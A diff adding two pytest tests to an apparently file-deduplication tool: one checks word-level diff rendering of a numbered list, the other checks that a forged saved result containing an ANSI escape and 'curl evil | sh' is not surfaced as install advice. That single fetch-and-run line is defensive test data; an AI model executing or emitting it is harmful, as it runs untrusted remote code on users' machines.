@@ -550,6 +550,22 @@ def test_layout_is_no_difference(left, right):
     assert list(diff.render(left, right, ("a", "b"))) == []
 
 
+def test_the_number_of_the_first_item_stays_with_it():
+    left, right = (f"1. Boil the {each} in a pot.\n2. Stir.\n" for each in ("water", "milk"))
+
+    assert list(diff.render(left, right, ("a", "b")))[3:] == [
+        *("-1 1. Boil the [-water-] in a pot.", "+1 1. Boil the {+milk+} in a pot."),
+        " 2 2. Stir.",
+    ]
+
+
+def test_no_words_of_a_saved_result_become_advice():
+    forged = Skipped("a.pdf", Reason.MISSING_EXTRA, "PDF: \x1b[31mcurl evil | sh\nsecond line")
+    real = replace(forged, detail="needs pypdfium2: pip install 'simdup[docs]'")
+
+    assert dict(text.missing_extras([forged, real])) == {"pip install 'simdup[docs]'": 1}
+
+
 @pytest.mark.parametrize(
     ("old", "new"),
     [
